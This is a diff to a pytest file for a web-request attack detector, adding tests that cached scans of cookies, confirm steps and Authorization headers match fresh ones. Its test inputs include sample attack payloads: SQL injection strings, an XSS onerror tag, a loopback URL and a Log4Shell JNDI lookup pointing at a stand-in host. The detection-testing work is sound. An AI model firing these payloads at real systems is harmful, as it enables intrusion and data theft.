@@ -1,5 +1,6 @@
 """The inspection's shortcuts give the answers of the long way: the plain-value test, query decoding,
-the HTML-entity pre-check, JSON path marking and the kept scan results of recurring header lines."""
+the HTML-entity pre-check, JSON path marking, the kept scan results of recurring header lines and
+cookies, and the answers confirm steps, `names` checks and credential checks keep."""
 
 from __future__ import annotations
 
@@ -8,6 +9,7 @@ from urllib.parse import unquote_plus
 
 import pytest
 
+from bastion.detect.signatures.confirm import load_confirms, remembered
 from bastion.detect.signatures.detector import SignaturesDetector
 from bastion.detect.signatures.settings import SignaturesConfig
 from bastion.detect.signatures.transforms import VIEWS, decode
@@ -74,3 +76,49 @@ def test_a_recurring_header_line_is_matched_on_every_request() -> None:
     clean = make_exchange("GET", "/p", headers=[("Host", "api.example.com"), ("X-Note", "hello")], host=None)
     det.request_headers(clean)
     assert clean.findings == []
+
+
+def test_a_recurring_cookie_is_matched_on_every_request_and_by_its_own_zone() -> None:
+    det = SignaturesDetector(SignaturesConfig())
+    payload = "1' UNION SELECT password FROM users--"
+    found = []
+    for i in range(3):  # the second and third requests reuse the first one's Values and scan results
+        ex = make_exchange("GET", f"/p?i={i}", headers=[("Cookie", f"pref={payload}; _ga=GA1.2.{i}")], host=None)
+        det.request_headers(ex)
+        found.append(sorted((f.rule_id, f.zone, f.name) for f in ex.findings))
+    assert found[0] and found[0] == found[1] == found[2]
+    assert all(zone == "cookie" for _, zone, _ in found[0])
+    # The same text in a header afterwards: scanned and judged as a header value, not as the cookie was.
+    fresh = SignaturesDetector(SignaturesConfig())
+    alone = make_exchange("GET", "/p", headers=[("X-Note", payload)], host=None)
+    fresh.request_headers(alone)
+    ex = make_exchange("GET", "/p", headers=[("X-Note", payload)], host=None)
+    det.request_headers(ex)
+    assert sorted(f.rule_id for f in ex.findings) == sorted(f.rule_id for f in alone.findings)
+
+
+def test_confirm_steps_answer_from_memory_as_they_would_afresh() -> None:
+    texts = ["1' or '1'='1", "O'Brien", "<img src=x onerror=alert(1)>", "http://127.0.0.1/", "plain words"]
+    for name, step in load_confirms().items():
+        again = [step(t) for t in texts]
+        assert [step(t) for t in texts] == again, name
+    calls: list[str] = []
+
+    def failing(text: str) -> str | None:
+        calls.append(text)
+        raise ValueError(text)
+
+    step = remembered(failing)
+    for _ in range(2):
+        with pytest.raises(ValueError):
+            step("x")
+    assert calls == ["x", "x"]  # a step that raised is asked again, not answered from memory
+
+
+def test_credentials_are_judged_the_same_on_every_request() -> None:
+    det = SignaturesDetector(SignaturesConfig())
+    for value, flagged in [("Bearer " + "a" * 300, False), ("Bearer ${jndi:ldap://x.example/a}", True)]:
+        for _ in range(2):
+            ex = make_exchange("GET", "/p", headers=[("Authorization", value)], host=None)
+            det.request_headers(ex)
+            assert any(f.name == "authorization" for f in ex.findings) == flagged, value
